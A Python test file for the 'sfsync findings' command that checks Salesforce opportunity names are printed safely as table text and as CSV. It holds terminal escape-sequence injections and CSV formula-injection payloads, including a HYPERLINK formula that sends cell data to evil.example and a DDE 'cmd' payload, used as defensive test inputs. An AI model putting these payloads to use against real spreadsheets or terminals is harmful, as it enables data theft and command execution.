"""``sfsync findings`` with hostile opportunity names: table as text, CSV without formulas.

The names come from Salesforce, where anyone who can edit an opportunity sets
them. The table must neither crash on rich markup nor pass escape sequences to
the terminal (or a pipe); the CSV must not hand a spreadsheet a formula.
"""

from __future__ import annotations

import csv
import io
import json
import re

import click.testing
import pytest
from sqlalchemy import update

from sfsync.warehouse.models import Opportunity
from tests.cli_helpers import run_cli
from tests.integration.audit.conftest import ExamplesWarehouse

TABLE_NAMES = (
    "Deal [/bold] closing tag",
    "[red]x[/red]",
    "\x1b]0;pwned\x07 retitled",
    "\x1b[2J cleared",
    "carriage\rreturn",
    "\x9b31m C1 CSI",
)
CSV_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tTab first",
    "\rCR first",
    "carriage\rreturn\nand newline",
    "Deal [/bold] closing tag",
)
SGR = re.compile(r"\x1b\[[0-9;]*m")  # rich's own colours on a terminal


def assert_safe(text: str) -> None:
    """No control character but newlines (and, on a terminal, rich's SGR colours)."""
    bare = SGR.sub("", text)
    assert not [c for c in bare if c != "\n" and (ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0)], bare


def assert_literal(text: str, *values: str) -> None:
    bare = SGR.sub("", text)
    for value in values:
        assert value in bare, (value, bare)


def env(ew: ExamplesWarehouse) -> dict[str, str]:
    return {"SFSYNC_DATABASE_URL": ew.url, "COLUMNS": "250"}


def rename_opportunities(ew: ExamplesWarehouse, hostile: tuple[str, ...]) -> dict[str, str]:
    """Audit, then give opportunities with an open finding the hostile names."""
    assert run_cli("audit", "--as-of", "2024-08-15", "--record", env=env(ew)).exit_code == 0
    listed = json.loads(run_cli("findings", "--format", "json", env=env(ew)).stdout)
    ids = sorted({f["opportunity_id"] for f in listed})
    assert len(ids) >= len(hostile)
    names = dict(zip(ids, hostile, strict=False))
    with ew.warehouse.engine.begin() as conn:
        for opp_id, name in names.items():
            conn.execute(update(Opportunity).where(Opportunity.id == opp_id).values(name=name))
    return names


@pytest.mark.parametrize("on_terminal", [False, True], ids=["plain", "tty"])
def test_findings_table_prints_hostile_names_as_text(
    examples_warehouse: ExamplesWarehouse, monkeypatch: pytest.MonkeyPatch, on_terminal: bool
) -> None:
    ew = examples_warehouse
    rename_opportunities(ew, TABLE_NAMES)
    if on_terminal:
        monkeypatch.setattr(click.testing._NamedTextIOWrapper, "isatty", lambda self: True)
    outcome = run_cli("--log-format", "json", "findings", env=env(ew))
    assert outcome.exit_code == 0, outcome.output  # was 70: rich's MarkupError
    assert_safe(outcome.stdout)
    assert_literal(
        outcome.stdout,
        "Deal [/bold] closing tag",
        "[red]x[/red]",
        "]0;pwned",
        "[2J cleared",
        "carriage return",
        "31m C1 CSI",
    )
    assert "13 finding(s)" in outcome.stdout
    if not on_terminal:
        assert outcome.stdout.splitlines()[0].split() == [
            "rule", "opportunity", "name", "owner", "amount", "stage", "close_date",
            "status", "severity", "opened", "values",
        ]  # fmt: skip
    else:
        assert "│" in SGR.sub("", outcome.stdout)  # rich drew the table


def test_audit_summary_on_a_terminal_is_a_rich_table(
    examples_warehouse: ExamplesWarehouse, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(click.testing._NamedTextIOWrapper, "isatty", lambda self: True)
    outcome = run_cli(
        "--log-format",
        "json",
        "audit",
        "--as-of",
        "2024-08-15",
        "--record",
        env=env(examples_warehouse),
    )
    assert outcome.exit_code == 0, outcome.output
    text = SGR.sub("", outcome.stdout)
    assert "audit run 1, as of 2024-08-15" in text
    assert "close_date_past" in text
    assert "open findings: 4 error, 9 warn" in text


def test_findings_csv_prefixes_formula_cells(examples_warehouse: ExamplesWarehouse) -> None:
    ew = examples_warehouse
    names = rename_opportunities(ew, CSV_NAMES)
    outcome = run_cli("findings", "--format", "csv", env=env(ew))
    assert outcome.exit_code == 0, outcome.output
    rows = list(csv.DictReader(io.StringIO(outcome.stdout, newline="")))
    assert len(rows) == 13  # a CR inside a name is quoted, so it does not split its row
    assert {row["opportunity_id"] for row in rows} >= set(names)
    for row in rows:
        written = row["opportunity_name"]
        name = names.get(row["opportunity_id"])
        if name is None:
            continue
        if name[0] in "=+-@\t\r":
            assert written == "'" + name
        else:
            assert written == name  # the CSV keeps the data; only formula starts change
        for column, cell in row.items():
            if cell and cell[0] in "=+-@\t\r":
                float(cell)  # only a number (k = -1) starts so: a spreadsheet reads a number
            assert not cell.startswith(("{", "[")), (column, row)  # one column per value
